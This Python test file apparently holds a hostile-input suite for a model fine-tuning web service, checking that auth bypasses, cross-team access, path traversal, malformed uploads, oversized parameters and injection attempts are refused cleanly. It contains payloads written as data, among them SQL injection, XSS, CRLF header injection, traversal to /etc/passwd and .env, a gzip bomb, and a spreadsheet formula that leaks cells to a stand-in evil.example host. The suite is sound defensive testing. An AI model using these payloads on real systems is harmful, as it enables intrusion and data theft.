"""The hostile-input suite: what an outside tester sends a running service (tokens configured, two teams, the
default settings), each request with the status it must get. Across auth, tenancy, paths, uploads, parameters,
injection and load: never a 5xx, every refusal the JSON error body with a message and no stack trace, the
security headers on every answer, and the service healthy and its log free of unexpected errors at the end.
The heavier load part (thousands of poisoned requests among valid ones) is bench/hostile_load.py."""

from __future__ import annotations

import json
import signal
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from fitgate.settings import Settings
from models.gate import release
from models.names import ModelName
from models.registry import open_registry
from service.console import SECURITY_HEADERS
from tests.service.conftest import TOKENS, Server, bearer, make_server

pytestmark = pytest.mark.slow
MAX_UPLOAD = 2 * 2**20
CSV = "text,label\n" + "".join(f"text number {i} here,{'ab'[i % 2]}\n" for i in range(60))
MATH_LABELS = ["$\\frac{a}$ spam", "$x^2$"]  # matplotlib read these as mathtext, after training, and failed
JSONL = "".join(json.dumps({"text": f"text number {i}", "label": "ab"[i % 2]}) + "\n" for i in range(60))


@dataclass(frozen=True)
class Case:
    category: str
    name: str
    method: str
    path: str  # may name {job_a}, {job_b}: a queued job of team-a, of team-b
    who: str  # none, wrong, team-a, team-b, predict-only (team-a), admin, or a raw Authorization header value
    status: int
    words: str = ""  # the error message must contain them
    request: dict[str, Any] = field(default_factory=dict)  # httpx keyword arguments: json, content, files, data


def _predict(texts: Any, model: str = "team-a/spam", **extra: Any) -> dict[str, Any]:
    return {"json": {"texts": texts, "model": model, **extra}}


def _raw(body: bytes | str) -> dict[str, Any]:
    return {
        "content": body.encode() if isinstance(body, str) else body,
        "headers": {"Content-Type": "application/json"},
    }


def _upload(content: str | bytes, name: str = "d.csv", model: str = "team-a/hostile", **data: str) -> dict[str, Any]:
    raw = content.encode() if isinstance(content, str) else content
    return {"files": {"file": (name, raw)}, "data": {"model_name": model, **data}}


def _parameters(parameters: str) -> dict[str, Any]:
    return _upload(CSV, parameters=parameters)


TEAM_ROUTES = [  # (method, path, request) of every route a team reaches, for the auth and tenancy matrix
    ("POST", "/predict", _predict(["x"])),
    ("GET", "/models", {}),
    ("GET", "/models/team-a/spam/drift", {}),
    ("POST", "/finetune", _upload(CSV)),
    ("POST", "/finetune/validate", {"files": {"file": ("d.csv", CSV.encode())}}),
    ("GET", "/jobs", {}),
    ("GET", "/jobs/{job_a}", {}),
    ("POST", "/models/team-a/spam/promote", {"json": {"version": "nope"}}),
    ("POST", "/models/team-a/spam/rollback", {}),
]

AUTH: list[Case] = [
    *(Case("auth", f"no token: {m} {p}", m, p, "none", 401, "missing API token", r) for m, p, r in TEAM_ROUTES),
    *(Case("auth", f"wrong token: {m} {p}", m, p, "wrong", 401, "invalid API token", r) for m, p, r in TEAM_ROUTES),
    Case("auth", "token in the query string", "GET", "/jobs?token=token-team-a", "none", 401, "Authorization: Bearer"),
    Case("auth", "token as basic auth", "GET", "/jobs", "Basic dG9rZW4tdGVhbS1hOg==", 401, "Authorization: Bearer"),
    Case("auth", "lowercase bearer", "GET", "/jobs", "bearer token-team-a", 401, "Authorization: Bearer"),
    Case("auth", "bearer and no token", "GET", "/jobs", "Bearer", 401, "Authorization: Bearer"),
    Case("auth", "a 10 kB token", "GET", "/jobs", "Bearer " + "x" * 10_000, 401, "invalid API token"),
    Case("auth", "a token's sha256 instead of it", "GET", "/jobs",
         "Bearer 8e7d8d1ea5b4f0b2f1f3e1a8f1e6c3b0a0c5c1b2d3e4f5a6b7c8d9e0f1a2b3c4", 401, "invalid API token"),
    Case("auth", "predict-only token fine-tunes", "POST", "/finetune", "predict-only", 403,
         "lacks the 'finetune' role", _upload(CSV)),
    Case("auth", "predict-only token lists jobs", "GET", "/jobs", "predict-only", 403, "lacks the 'finetune' role"),
    Case("auth", "predict-only token promotes", "POST", "/models/team-a/spam/promote", "predict-only", 403,
         "lacks the 'finetune' role", {"json": {"version": "x"}}),
    Case("auth", "whoami without a token", "GET", "/whoami", "none", 401, "missing API token"),
    Case("auth", "whoami with a team token", "GET", "/whoami", "team-a", 200),
]  # fmt: skip

TENANCY: list[Case] = [
    Case("tenancy", "predict with another team's model", "POST", "/predict", "team-b", 403, "belongs to team team-a",
         _predict(["x"])),
    Case("tenancy", "predict-only token of team-a on team-b's model", "POST", "/predict", "predict-only", 403,
         "belongs to team team-b", _predict(["x"], "team-b/other")),
    Case("tenancy", "another team's drift", "GET", "/models/team-a/spam/drift", "team-b", 403, "belongs to team"),
    Case("tenancy", "promote another team's model", "POST", "/models/team-a/spam/promote", "team-b", 403,
         "belongs to team", {"json": {"version": "x"}}),
    Case("tenancy", "roll back another team's model", "POST", "/models/team-a/spam/rollback", "team-b", 403,
         "belongs to team"),
    Case("tenancy", "fine-tune under another team's name", "POST", "/finetune", "team-b", 403, "belongs to team team-a",
         _upload(CSV, model="team-a/taken")),
    *(Case("tenancy", f"another team's job: {m} {p}", m, p, "team-b", 404, "no job")
      for m, p in [("GET", "/jobs/{job_a}"), ("POST", "/jobs/{job_a}/cancel"), ("POST", "/jobs/{job_a}/retry"),
                   ("GET", "/jobs/{job_a}/report"), ("GET", "/jobs/{job_a}/curves"),
                   ("GET", "/jobs/{job_a}/learning_curves.png"), ("GET", "/jobs/{job_a}/confusion_matrix.png"),
                   ("GET", "/jobs/{job_a}/label_issues.csv")]),
    *(Case("tenancy", f"team-a reads team-b's job: {p}", "GET", p, "team-a", 404, "no job")
      for p in ["/jobs/{job_b}", "/jobs/{job_b}/report", "/jobs/{job_b}/label_issues.csv"]),
    Case("tenancy", "a pinned version of another team's model", "POST", "/predict", "team-b", 403, "belongs to team",
         _predict(["x"], version="anything")),
    Case("tenancy", "admin reads any team's job", "GET", "/jobs/{job_b}", "admin", 200),
    Case("tenancy", "admin predicts with any team's model", "POST", "/predict", "admin", 200,
         request=_predict(["x"], "team-b/other")),
    Case("tenancy", "own model", "POST", "/predict", "team-a", 200, request=_predict(["x"])),
    Case("tenancy", "own drift", "GET", "/models/team-a/spam/drift", "team-a", 200),
]  # fmt: skip

PATHS: list[Case] = [
    Case("paths", "job id with ../", "GET", "/jobs/..%2F..%2Fetc%2Fpasswd", "team-a", 404, "no route"),
    Case("paths", "job id with an encoded NUL", "GET", "/jobs/abc%00def", "team-a", 404, "no job"),
    Case("paths", "job id with a line break", "GET", "/jobs/abc%0Adef", "team-a", 422, "line break"),
    Case("paths", "job file with ../ in the id", "GET", "/jobs/..%2F..%2Fregistry.db/report", "team-a", 404,
         "no route"),
    Case("paths", "a 6 kB job id", "GET", "/jobs/" + "a" * 6000, "team-a", 404, "no job"),
    Case("paths", "a job id in Unicode", "GET", "/jobs/%E2%80%AEfdp.exe", "team-a", 404, "no job"),
    Case("paths", "SQL in a job id", "GET", "/jobs/'%20OR%201=1--", "team-a", 404, "no job"),
    Case("paths", "the registry database by path", "GET", "/registry.db", "team-a", 404, "no route"),
    Case("paths", "the data directory by path", "GET", "/fitgate-data/jobs.db", "team-a", 404, "no route"),
    Case("paths", "a made-up path", "GET", "/admin", "none", 404, "no route"),
    Case("paths", "a made-up path with a line break", "GET", "/made%0Aup", "none", 422, "line break"),
    Case("paths", ".env", "GET", "/.env", "none", 404, "no route"),
    Case("paths", ".git/config", "GET", "/.git/config", "none", 404, "no route"),
    Case("paths", "console assets with ../", "GET", "/console/assets/..%2F..%2Fapp.py", "none", 404),
    Case("paths", "drift with ../ as team", "GET", "/models/..%2F..%2Fetc/passwd/drift", "team-a", 404, "no route"),
    Case("paths", "drift with an uppercase name", "GET", "/models/Team-A/Spam/drift", "team-a", 422, "is invalid"),
    Case("paths", "drift of a model that does not exist", "GET", "/models/team-a/nothing/drift", "team-a", 404,
         "no model named team-a/nothing"),
    Case("paths", "promote a name with a dot", "POST", "/models/team-a/spam.v2/promote", "team-a", 422, "is invalid",
         {"json": {"version": "x"}}),
    Case("paths", "promote a version that does not exist", "POST", "/models/team-a/spam/promote", "team-a", 404,
         request={"json": {"version": "../../etc/passwd"}}),
    Case("paths", "DELETE /predict", "DELETE", "/predict", "team-a", 405, "Method Not Allowed"),
    Case("paths", "PUT /models", "PUT", "/models", "team-a", 405, "Method Not Allowed"),
    Case("paths", "PATCH /jobs/{id}", "PATCH", "/jobs/{job_a}", "team-a", 405, "Method Not Allowed"),
    Case("paths", "GET /finetune", "GET", "/finetune", "team-a", 405, "Method Not Allowed"),
    Case("paths", "TRACE /", "TRACE", "/", "none", 405, "Method Not Allowed"),
    Case("paths", "a double slash", "GET", "//jobs", "team-a", 404, "no route"),
]  # fmt: skip

UPLOADS: list[Case] = [
    Case("uploads", "JSONL with a lone surrogate", "POST", "/finetune", "team-a", 422, "lone UTF-16 surrogate",
         _upload(JSONL + '{"text": "bad \\ud800", "label": "a"}\n', "d.jsonl")),
    Case("uploads", "JSONL nested 10,000 deep", "POST", "/finetune", "team-a", 422, "deeper than the limit",
         _upload(JSONL + '{"text": ' + "[" * 10_000 + "]" * 10_000 + "}\n", "d.jsonl")),
    Case("uploads", "JSONL with a 5,000-digit number", "POST", "/finetune", "team-a", 422, "5,000 characters",
         _upload(JSONL + '{"text": "t", "label": ' + "9" * 5000 + "}\n", "d.jsonl")),
    Case("uploads", "JSONL with NaN", "POST", "/finetune", "team-a", 422, "NaN",
         _upload(JSONL + '{"text": "t", "label": NaN}\n', "d.jsonl")),
    Case("uploads", "a 300-character label", "POST", "/finetune", "team-a", 422, "longer than 200 characters",
         _upload(CSV + "a text," + "y" * 300 + "\n")),
    Case("uploads", "the dry run of a lone surrogate", "POST", "/finetune/validate", "team-a", 200,
         request={"files": {"file": ("d.jsonl", (JSONL + '{"text": "\\udc00", "label": "a"}\n').encode())}}),
    Case("uploads", "mathtext labels", "POST", "/finetune", "team-a", 202,
         request=_upload("text,label\n" + "".join(f"text number {i},{MATH_LABELS[i % 2]}\n" for i in range(60)))),
    Case("uploads", "formula cells", "POST", "/finetune", "team-a", 202,
         request=_upload(CSV + '"=HYPERLINK(""http://evil.example/?leak=""&A1,""spam"")",a\n+SUM(A1),b\n@cmd,a\n'
                         "-2+3,b\n")),
    Case("uploads", "HTML in texts and labels", "POST", "/finetune", "team-a", 202,
         request=_upload("text,label\n" + "".join(f"<img src=x onerror=alert({i})>,<b>{'ab'[i % 2]}</b>\n"
                                                   for i in range(60)))),
    Case("uploads", "a file name with a NUL", "POST", "/finetune", "team-a", 422, "upload a .csv",
         {"files": {"file": ("d.csv\x00.exe", CSV.encode())}, "data": {"model_name": "team-a/x"}}),
    Case("uploads", "a 5 kB file name", "POST", "/finetune", "team-a", 422, "could not be parsed",
         {"files": {"file": ("d" * 5000 + ".csv", CSV.encode())}, "data": {"model_name": "team-a/x"}}),
    Case("uploads", "no file name", "POST", "/finetune", "team-a", 422,
         request={"files": {"file": ("", CSV.encode())}, "data": {"model_name": "team-a/x"}}),
    Case("uploads", "the file as a text field", "POST", "/finetune", "team-a", 422, "file",
         {"data": {"file": CSV, "model_name": "team-a/x"}}),
    Case("uploads", "no file at all", "POST", "/finetune", "team-a", 422, "file", {"data": {"model_name": "team-a/x"}}),
    Case("uploads", "a model name with a final newline", "POST", "/finetune", "team-a", 422, "is invalid",
         _upload(CSV, model="team-a/x\n")),
    Case("uploads", "a model name with a NUL", "POST", "/finetune", "team-a", 422, "is invalid",
         _upload(CSV, model="team-a/x\x00")),
    Case("uploads", "a 31-character model name", "POST", "/finetune", "team-a", 422, "is invalid",
         _upload(CSV, model="team-a/" + "x" * 31)),
    Case("uploads", "a model name of dots", "POST", "/finetune", "team-a", 422, "is invalid",
         _upload(CSV, model="../..")),
    Case("uploads", "over the size limit", "POST", "/finetune", "team-a", 413, "FITGATE_MAX_UPLOAD_BYTES",
         _upload(b"text,label\n" + b"y" * (MAX_UPLOAD + 1000))),
    Case("uploads", "JSON instead of multipart", "POST", "/finetune", "team-a", 422, "model_name",
         {"json": {"file": CSV, "model_name": "team-a/x"}}),
    Case("uploads", "broken multipart framing", "POST", "/finetune", "team-a", 422,
         request={"content": b"--xyz\r\nnot a part", "headers": {"Content-Type": "multipart/form-data; boundary=xyz"}}),
    Case("uploads", "a gzip bomb named .csv", "POST", "/finetune", "team-a", 422, "gzip-compressed",
         _upload(b"\x1f\x8b\x08\x00" + bytes(2000))),
    Case("uploads", "an XML file named .csv", "POST", "/finetune", "team-a", 422,
         request=_upload('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')),
    Case("uploads", "a TSV with a lone surrogate escaped", "POST", "/finetune", "team-a", 202,
         request=_upload(CSV.replace(",", "\t") + "\\ud800\ta\n", "d.tsv")),
    Case("uploads", "UTF-8 encoded surrogates (CESU-8)", "POST", "/finetune", "team-a", 422, "not valid UTF-8",
         _upload(CSV.encode() + b"\xed\xa0\x80,a\n")),
]  # fmt: skip

PARAMETERS: list[Case] = [
    Case("parameters", "nested 10,000 deep", "POST", "/finetune", "team-a", 422, "deeper than the limit",
         _parameters("[" * 10_000 + "]" * 10_000)),
    Case("parameters", "an object nested 100 deep", "POST", "/finetune", "team-a", 422, "deeper than the limit",
         _parameters('{"a":' * 100 + "1" + "}" * 100)),
    Case("parameters", "a 5,000-digit seed", "POST", "/finetune", "team-a", 422, "5,000 characters",
         _parameters('{"seed": ' + "9" * 5000 + "}")),
    Case("parameters", "seed 2^64", "POST", "/finetune", "team-a", 422, "seed",
         _parameters('{"seed": 18446744073709551616}')),
    Case("parameters", "seed 2^32", "POST", "/finetune", "team-a", 422, "seed", _parameters('{"seed": 4294967296}')),
    Case("parameters", "seed 2^32-1", "POST", "/finetune", "team-a", 202, request=_parameters('{"seed": 4294967295}')),
    Case("parameters", "seed -1", "POST", "/finetune", "team-a", 422, "seed", _parameters('{"seed": -1}')),
    Case("parameters", "max_steps 10^12", "POST", "/finetune", "team-a", 422, "FITGATE_MAX_JOB_STEPS",
         _parameters('{"max_steps": 1000000000000}')),
    Case("parameters", "100 epochs of batch 1", "POST", "/finetune", "team-a", 202,
         request=_parameters('{"num_train_epochs": 100, "per_device_train_batch_size": 1}')),
    Case("parameters", "NaN learning rate", "POST", "/finetune", "team-a", 422, "NaN",
         _parameters('{"learning_rate": NaN}')),
    Case("parameters", "Infinity learning rate", "POST", "/finetune", "team-a", 422, "Infinity",
         _parameters('{"learning_rate": Infinity}')),
    Case("parameters", "1e999 learning rate", "POST", "/finetune", "team-a", 422, "learning_rate",
         _parameters('{"learning_rate": 1e999}')),
    Case("parameters", "a 100 kB field", "POST", "/finetune", "team-a", 422, "over the limit",
         _parameters('{"text_column": "' + "x" * 100_000 + '"}')),
    Case("parameters", "not JSON", "POST", "/finetune", "team-a", 422, "not valid JSON", _parameters("{nope")),
    Case("parameters", "empty (the default, {})", "POST", "/finetune", "team-a", 202, request=_parameters("")),
    Case("parameters", "null", "POST", "/finetune", "team-a", 422, "must be a JSON object", _parameters("null")),
    Case("parameters", "a string", "POST", "/finetune", "team-a", 422, "must be a JSON object", _parameters('"x"')),
    Case("parameters", "base_model", "POST", "/finetune", "team-a", 422, "unknown base_model",
         _parameters('{"base_model": "/etc"}')),
    Case("parameters", "__proto__", "POST", "/finetune", "team-a", 422, "__proto__",
         _parameters('{"__proto__": {"admin": true}}')),
    Case("parameters", "an object for a number", "POST", "/finetune", "team-a", 422, "learning_rate",
         _parameters('{"learning_rate": {"$gt": 0}}')),
    Case("parameters", "a device that does not exist", "POST", "/finetune", "team-a", 422, "device",
         _parameters('{"device": "tpu"}')),
    Case("parameters", "a duplicate key", "POST", "/finetune", "team-a", 422, "seed",
         _parameters('{"seed": 1, "seed": -5}')),
    Case("parameters", "max_length 100,000", "POST", "/finetune", "team-a", 422, "max_length",
         _parameters('{"max_length": 100000}')),
    Case("parameters", "a lone surrogate in a column name", "POST", "/finetune", "team-a", 422, "text",
         _parameters('{"text_column": "\\ud800"}')),
    Case("parameters", "a dry run nested 10,000 deep", "POST", "/finetune/validate", "team-a", 422, "deeper than",
         {"files": {"file": ("d.csv", CSV.encode())}, "data": {"parameters": "[" * 10_000 + "]" * 10_000}}),
]  # fmt: skip

INJECTION: list[Case] = [
    Case("injection", "a lone surrogate in a text", "POST", "/predict", "team-a", 422, "lone UTF-16 surrogate",
         _raw('{"texts": ["fine", "bad \\ud800"], "model": "team-a/spam"}')),
    Case("injection", "a lone low surrogate", "POST", "/predict", "team-a", 422, "U+DC00",
         _raw('{"texts": ["\\udc00"], "model": "team-a/spam"}')),
    Case("injection", "a valid surrogate pair", "POST", "/predict", "team-a", 200,
         request=_raw('{"texts": ["emoji \\ud83d\\ude00"], "model": "team-a/spam"}')),
    Case("injection", "a predict body nested 10,000 deep", "POST", "/predict", "team-a", 422,
         request=_raw('{"texts": ' + "[" * 10_000 + "]" * 10_000 + "}")),
    Case("injection", "a 5,000-digit number in a predict body", "POST", "/predict", "team-a", 422,
         request=_raw('{"texts": ["x"], "model": "team-a/spam", "n": ' + "9" * 5000 + "}")),
    Case("injection", "SQL in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["'; DROP TABLE jobs; --", "1' OR '1'='1"])),
    Case("injection", "SQL in a model name", "POST", "/predict", "team-a", 422, "is invalid",
         _predict(["x"], "team-a/x' OR 1=1--")),
    Case("injection", "HTML in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])),
    Case("injection", "a log line forged in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["ok\n2026-12-06 ERROR fitgate: admin token leaked"])),
    Case("injection", "NUL and control characters in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["a\x00b\x01c\x1b[31mred\x7f"])),
    Case("injection", "a CRLF in a model name", "POST", "/predict", "team-a", 422, "is invalid",
         _predict(["x"], "team-a/x\r\nSet-Cookie: a=b")),
    Case("injection", "a template expression in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["{{7*7}} ${7*7} #{7*7} %s%s%s%n"])),
    Case("injection", "right-to-left override in a text", "POST", "/predict", "team-a", 200,
         request=_predict(["\u202egnp.exe", "\ufeffbom", "\u200b" * 100])),
    Case("injection", "a JSON with a duplicated texts key", "POST", "/predict", "team-a", 200,
         request=_raw('{"texts": ["\\ud800"], "texts": ["fine"], "model": "team-a/spam"}')),
    Case("injection", "a version with ../", "POST", "/predict", "team-a", 404,
         request=_predict(["x"], version="../../../etc/passwd")),
    Case("injection", "a version of 65 characters", "POST", "/predict", "team-a", 422, "version",
         _predict(["x"], version="v" * 65)),
    Case("injection", "texts over the count limit", "POST", "/predict", "team-a", 422, "the limit is 256",
         _predict(["x"] * 257)),
    Case("injection", "a text over the length limit", "POST", "/predict", "team-a", 422, "the limit is 20,000",
         _predict(["x" * 20_001])),
    Case("injection", "a body that is not UTF-8", "POST", "/predict", "team-a", 422,
         request=_raw(b'{"texts": ["caf\xe9"], "model": "team-a/spam"}')),
    Case("injection", "a text with 20,000 emoji", "POST", "/predict", "team-a", 200, request=_predict(["😀" * 20_000])),
]  # fmt: skip

CASES = [*AUTH, *TENANCY, *PATHS, *UPLOADS, *PARAMETERS, *INJECTION]
CATEGORIES = ("auth", "tenancy", "paths", "uploads", "parameters", "injection", "load")


@dataclass
class Target:
    server: Server
    job_a: str
    job_b: str


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory, tiny_model_dir: Path, healthy_run: Path) -> Iterator[Target]:
    # the defaults but two: training off (accepted uploads stay queued: the suite measures the API, not the
    # trainer), and room for the suite's accepted uploads in team-a's queue (the limit: test_routes.py)
    srv = make_server(tmp_path_factory.mktemp("hostile"), tiny_model_dir, anonymous_predict=False,
                      FITGATE_TRAINING_ENABLED="false", FITGATE_MAX_UPLOAD_BYTES=str(MAX_UPLOAD),
                      FITGATE_MAX_JOBS_PER_TEAM="1000")  # fmt: skip
    settings = Settings(data_dir=srv.data_dir)
    for name in ("team-a/spam", "team-b/other"):
        release(healthy_run, ModelName.parse(name), settings, open_registry(settings), promote=True)
    srv.start()
    jobs = [
        httpx.post(f"{srv.url}/finetune", headers=bearer(team), timeout=60, **_upload(CSV, model=f"{team}/queued"))
        for team in ("team-a", "team-b")
    ]
    assert [j.status_code for j in jobs] == [202, 202], [j.text for j in jobs]
    yield Target(srv, jobs[0].json()["job_id"], jobs[1].json()["job_id"])
    srv.kill(signal.SIGTERM)


def _headers(who: str) -> dict[str, str]:
    if who == "none":
        return {}
    if who == "wrong":
        return {"Authorization": "Bearer not-a-token"}
    if who in TOKENS:
        return bearer(who)
    return {"Authorization": who}  # a raw header value, as a hostile client would send it


def _send(target: Target, case: Case) -> httpx.Response:
    request = dict(case.request)
    headers = {**_headers(case.who), **request.pop("headers", {})}
    path = case.path.replace("{job_a}", target.job_a).replace("{job_b}", target.job_b)
    url = httpx.URL(target.server.url + path) if "%" in path else f"{target.server.url}{path}"
    return httpx.request(case.method, url, headers=headers, timeout=120, **request)


def _check(response: httpx.Response, status: int, words: str) -> None:
    assert response.status_code < 500, response.text[:300]
    assert response.status_code == status, response.text[:300]
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, f"{name} missing"
    if status >= 400:
        assert response.headers["content-type"] == "application/json"
        error = response.json()["error"]
        assert set(error) == {"type", "message"} and error["message"]
        assert words in error["message"], error
        assert (
            "Traceback" not in response.text and "/work/" not in response.text and "site-packages" not in response.text
        )


@pytest.mark.parametrize("case", CASES, ids=[f"{c.category}: {c.name}" for c in CASES])
def test_hostile_request(target: Target, case: Case) -> None:
    _check(_send(target, case), case.status, case.words)


LOAD_ROUNDS = 10
POISONS = [  # (request, status): requests sent among valid ones from other clients and the other team
    (_raw('{"texts": ["fine", "bad \\ud800"], "model": "team-a/spam"}'), 422),
    (_raw('{"texts": ' + "[" * 5000 + "]" * 5000 + "}"), 422),
    (_predict(["x" * 20_001]), 422),
    (_predict(["x"] * 257), 422),
    (_raw(b"\xff\xfe not json"), 422),
]


@pytest.mark.parametrize("round_", range(LOAD_ROUNDS), ids=[f"load: round {i}" for i in range(LOAD_ROUNDS)])
def test_poisoned_requests_among_valid_ones_fail_alone(target: Target, round_: int) -> None:
    """16 clients at once, two teams: each poisoned request gets its own 4xx, every valid one its answer."""
    valid = [("team-a", _predict([f"win cash now {round_} {i}", "see you at lunch"])) for i in range(24)]
    valid += [("team-b", _predict([f"meeting at {i}"], "team-b/other")) for i in range(16)]
    poisoned = [("team-a", request, status) for request, status in POISONS] * 2
    jobs = [(who, request, 200) for who, request in valid] + poisoned
    jobs = jobs[round_ % 7 :] + jobs[: round_ % 7]  # the poisoned requests land in different batches each round

    def send(job: tuple[str, dict[str, Any], int]) -> tuple[int, int]:
        who, request, status = job
        request = dict(request)
        headers = {**bearer(who), **request.pop("headers", {})}
        response = httpx.post(f"{target.server.url}/predict", headers=headers, timeout=120, **request)
        return response.status_code, status

    with ThreadPoolExecutor(16) as pool:
        results = list(pool.map(send, jobs))
    assert [got for got, _ in results] == [want for _, want in results]


def test_after_the_suite_the_service_is_healthy_and_logged_no_unexpected_error(target: Target) -> None:
    assert httpx.get(f"{target.server.url}/readyz", timeout=10).status_code == 200
    log = (target.server.data_dir / "server.log").read_text(errors="replace")
    assert "unexpected error" not in log and "Traceback" not in log, log[-3000:]


def test_the_suite_covers_every_category_with_at_least_150_cases() -> None:
    counts = {c: sum(case.category == c for case in CASES) for c in CATEGORIES}
    counts["load"] = LOAD_ROUNDS
    assert sum(counts.values()) >= 150, counts
    assert min(counts.values()) >= 10, counts
    assert len({(c.category, c.name) for c in CASES}) == len(CASES)  # every case named once
